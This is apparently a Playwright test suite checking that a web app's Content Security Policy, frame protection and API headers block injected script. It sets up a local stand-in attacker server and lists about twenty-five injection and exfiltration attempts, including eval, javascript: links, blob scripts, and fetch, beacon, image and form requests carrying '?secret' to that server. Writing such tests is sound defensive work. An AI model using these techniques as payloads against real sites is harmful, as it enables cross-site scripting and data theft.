import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { createAccount } from './accounts.ts';
import { signedIn, test } from './shared-app.ts';

/** Whatever an attacker could wish for, on another origin; it notes what it is asked for. */
let attacker: Server;
let elsewhere: string;
const asked: string[] = [];

test.beforeAll(async () => {
  attacker = createServer((request, response) => {
    asked.push(request.url ?? '');
    const page = new URL(request.url ?? '/', 'http://x').searchParams.get('frame');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', page ? 'text/html' : 'text/javascript');
    response.end(page ? `<iframe src="${page}"></iframe>` : 'window.broken = "remote";');
  });
  await new Promise<void>((ready) => attacker.listen(0, '127.0.0.1', ready));
  elsewhere = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(() => void attacker.close());

/** Attempts by script that has got into the page somehow; each is given the attacker's origin. */
const ATTEMPTS: Record<string, (origin: string) => unknown> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.broken = "inline"';
    document.head.append(script);
  },
  'an inline handler': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.broken = "handler"');
    image.src = '/manca.png';
    document.body.append(image);
  },
  'a link with a script for an address': () => {
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:void(window.broken = "address")');
    document.body.append(link);
    link.click();
  },
  // Later, as the page's own code: what a debugger evaluates is under no policy.
  'a function made of text': () => setTimeout(() => new Function('window.broken = "function"')()),
  'a text for a timer': () =>
    setTimeout(() => Reflect.apply(setTimeout, window, ['window.broken = "timer"'])),
  eval: () =>
    setTimeout(() => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.broken = "eval"'])),
  'a script of another origin': (origin) => {
    const script = document.createElement('script');
    script.src = `${origin}/script.js`;
    document.head.append(script);
  },
  'a script in a data address': () => {
    const script = document.createElement('script');
    script.src = 'data:text/javascript,window.broken="data"';
    document.head.append(script);
  },
  'a script in a blob': () => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(new Blob(['window.broken="blob"'], { type: 'text/javascript' }));
    document.head.append(script);
  },
  'a module of another origin': (origin) => import(/* @vite-ignore */ `${origin}/module.js`),
  'a worker in a blob': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  'an inline style': () => {
    const style = document.createElement('style');
    style.textContent = 'body { --broken: yes }';
    document.head.append(style);
  },
  'a style attribute': () => {
    document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>');
  },
  'a style sheet of another origin': (origin) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${origin}/style.css`;
    document.head.append(link);
  },
  'an image of another origin': (origin) => {
    new Image().src = `${origin}/image.png?secret`;
  },
  'a font of another origin': (origin) => new FontFace('altrove', `url(${origin}/font.woff2)`).load(),
  'a video of another origin': (origin) => {
    const video = document.createElement('video');
    video.src = `${origin}/video.mp4`;
    document.body.append(video);
  },
  'a request to another origin': (origin) => fetch(`${origin}/fetch?secret`),
  'a beacon to another origin': (origin) => navigator.sendBeacon(`${origin}/beacon?secret`),
  'a socket to another origin': (origin) => new WebSocket(`${origin.replace('http', 'ws')}/socket`),
  'a stream from another origin': (origin) => new EventSource(`${origin}/stream`),
  'a frame of another origin': (origin) => {
    const frame = document.createElement('iframe');
    frame.src = `${origin}/frame`;
    document.body.append(frame);
  },
  'a plug-in': (origin) => {
    const object = document.createElement('object');
    object.data = `${origin}/object`;
    document.body.append(object);
  },
  'another base': (origin) => {
    const base = document.createElement('base');
    base.href = `${origin}/`;
    document.head.prepend(base);
    if (document.baseURI.startsWith(origin)) Reflect.set(window, 'broken', 'base');
  },
  'a form to another origin': (origin) => {
    const form = document.createElement('form');
    form.action = `${origin}/form?secret`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
};

/** Notes every violation of the policy, from before the first script of the page. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Reflect.set(window, 'violations', seen);
    addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  return () => page.evaluate(() => Reflect.get(window, 'violations') as string[]);
}

test('the policy stops every attempt of a script that has got into the page', async ({ app, browser }) => {
  const account = await createAccount(app);
  const context = await browser.newContext({ storageState: signedIn(app.address, account.session) });
  const page = await context.newPage();
  const violations = await watchPolicy(page);
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    await page.goto(`${app.address}/profile`);
    await expect(page.getByRole('heading', { name: 'Profilo', exact: true })).toBeVisible();
    expect(await violations(), `the page itself, before ${name}`).toEqual([]);
    asked.length = 0;
    await page.evaluate(attempt, elsewhere).catch(() => undefined);
    await expect.poll(violations, { message: name }).not.toEqual([]);
    expect(await page.evaluate(() => Reflect.get(window, 'broken')), name).toBeUndefined();
    expect(asked, name).toEqual([]);
    expect(page.url(), name).toBe(`${app.address}/profile`);
  }
  await context.close();
});

test('no other site can show the app in a frame', async ({ app, browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${elsewhere}/?frame=${encodeURIComponent(app.address)}`);
  const frame = page.frames().find((one) => one !== page.mainFrame());
  await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
  await context.close();
});

test('what the API sends is never run as a page or a script', async ({ app, page }) => {
  for (const path of ['/settings.json', '/rest/v1/contents', '/auth/v1/settings', '/healthz']) {
    const { headers } = await page.request
      .get(`${app.address}${path}`)
      .then((answer) => ({ headers: answer.headers() }));
    expect(headers['content-security-policy'], path).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['access-control-allow-credentials'], path).toBeUndefined();
  }
});
